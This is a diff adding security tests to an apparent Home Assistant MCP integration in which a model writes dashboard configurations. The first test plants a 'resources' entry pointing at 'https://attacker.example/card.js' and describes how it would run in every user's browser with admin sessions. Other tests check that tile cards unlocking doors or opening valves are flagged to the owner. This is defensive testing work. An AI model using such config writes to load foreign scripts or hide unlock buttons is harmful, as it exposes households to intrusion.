@@ -21,6 +21,7 @@ from custom_components.home_mcp.configs.dashboards import apply_patch
 from custom_components.home_mcp.configs.editors import ConfigError
 from homeassistant.auth.const import GROUP_ID_USER
 from homeassistant.components.lovelace.const import LOVELACE_DATA
+from homeassistant.components.lovelace.resources import ResourceStorageCollection
 from homeassistant.core import HomeAssistant
 from homeassistant.setup import async_setup_component
 
@@ -406,3 +407,132 @@ async def test_the_default_dashboard_is_taken_over_by_a_whole_write(mcp: McpHarn
     assert await default.async_load(False) == {"views": [{"cards": []}]}
     deleted = await mcp.data("delete_config", {"kind": "dashboard", "id": "lovelace"})
     assert deleted["error"] == "not_deletable"
+
+
+EVIL_MODULE = "https://attacker.example/card.js"
+
+
+async def test_a_dashboard_write_cannot_plant_a_frontend_resource_every_browser_runs(
+    mcp: McpHarness, hass: HomeAssistant, hass_ws_client: Callable[..., Any]
+) -> None:
+    """A `resources` key saved into the default dashboard becomes a JS module every browser loads.
+
+    Path: `save_config kind dashboard id lovelace` writes any mapping as the
+    default dashboard's configuration (`lovelace/config/save`, no key
+    filtered), and the write is never guarded. Home Assistant's
+    `ResourceStorageCollection._async_load_data` imports `resources` from that
+    very configuration (`default_config`, url path None) whenever the
+    `lovelace_resources` store does not exist yet -- a house that never added a
+    custom card -- at its next load (the next start, the first browser). The
+    imported URL is then loaded as a `<script type=module>` in every person's
+    browser, admins included: code with the admin's session, which can approve
+    any pending unlock itself. Nothing in the write's record names it.
+    """
+    written = await mcp.data(
+        "save_config",
+        {
+            "kind": "dashboard",
+            "id": "lovelace",
+            "config": {
+                "views": [{"title": "Home", "cards": []}],
+                "resources": [{"url": EVIL_MODULE, "type": "module"}],
+            },
+        },
+    )
+    # No restart needed: the first browser of a person (not an admin) that opens a dashboard.
+    member = await hass.auth.async_create_user("Member", group_ids=[GROUP_ID_USER])
+    refresh = await hass.auth.async_create_refresh_token(member, "http://127.0.0.1/")
+    client = await hass_ws_client(access_token=hass.auth.async_create_access_token(refresh))
+    await client.send_json_auto_id({"type": "lovelace/resources"})
+    reply = await client.receive_json()
+    served = [item.get("url") for item in reply.get("result") or []]
+    # And at every later start: Lovelace loads its resources from the store it wrote.
+    default = hass.data[LOVELACE_DATA].dashboards[None]
+    resources = ResourceStorageCollection(hass, default)
+    await resources.async_load()
+    loaded = served + [item.get("url") for item in resources.async_items()]
+    assert EVIL_MODULE not in loaded, (
+        f"save_config answered {written.get('written')=}, {written.get('error')=}; "
+        f"every browser now loads {loaded} (served to a plain user's browser: {served})"
+    )
+
+
+async def test_a_tile_whose_icon_tap_unlocks_is_an_opening_card(mcp: McpHarness) -> None:
+    """A tile card's `icon_tap_action` (and its default icon toggle) is a tap that acts.
+
+    `opening_cards` looks only at `tap_action`, `hold_action` and
+    `double_tap_action` (`CARD_ACTIONS`), and at `button`/`light` default
+    toggles. The tile card, the editor's default card, has
+    `icon_tap_action`, `icon_hold_action` and `icon_double_tap_action`, and
+    its icon toggles by default for the frontend's toggle domains (valve
+    among them). A model saves a tile whose icon tap unlocks the front door,
+    and a tile on the orchard's valve: one tap each opens the house, the write
+    is made at once (never guarded) and neither card is listed for the owner.
+    """
+    board = {
+        "url_path": "tile-house",
+        "title": "Tiles",
+        "views": [
+            {
+                "cards": [
+                    {
+                        "type": "tile",
+                        "entity": "lock.front_door",
+                        "icon_tap_action": {
+                            "action": "perform-action",
+                            "perform_action": "lock.unlock",
+                            "target": {"entity_id": "lock.front_door"},
+                        },
+                    },
+                    {"type": "tile", "entity": "valve.orchard"},
+                ]
+            }
+        ],
+    }
+    made = await mcp.data("save_config", {"kind": "dashboard", "config": board})
+    assert made["written"] is True, made
+    listed = made.get("opening_cards") or []
+    assert any("lock.front_door" in line for line in listed), listed
+    assert any("valve.orchard" in line for line in listed), listed
+
+
+async def test_a_card_s_lock_buttons_and_an_entities_row_s_unlock_are_opening_cards(
+    mcp: McpHarness,
+) -> None:
+    """A tile's lock commands, the garage's open and close, an entities card's lock row.
+
+    Each shows a button that opens with one tap, whatever its tap action:
+    named for the owner. A tile on a light with its toggle is not.
+    """
+    board = {
+        "url_path": "buttons-house",
+        "title": "Buttons",
+        "views": [
+            {
+                "cards": [
+                    {
+                        "type": "tile",
+                        "entity": "lock.front_door",
+                        "features": [{"type": "lock-commands"}],
+                    },
+                    {
+                        "type": "tile",
+                        "entity": "cover.garage_door",
+                        "features": [{"type": "cover-open-close"}],
+                    },
+                    {
+                        "type": "entities",
+                        "entities": ["light.bed_light", {"entity": "lock.front_door"}],
+                    },
+                    {"type": "tile", "entity": "light.bed_light", "features": [{"type": "toggle"}]},
+                ]
+            }
+        ],
+    }
+    made = await mcp.data("save_config", {"kind": "dashboard", "config": board})
+    assert made["written"] is True, made
+    listed = made.get("opening_cards") or []
+    assert any("cards[0] feature lock-commands" in line for line in listed), listed
+    assert any("cards[1] feature cover-open-close" in line for line in listed), listed
+    assert any("cards[2].entities[1] row button" in line for line in listed), listed
+    assert not any("cards[3]" in line for line in listed), listed
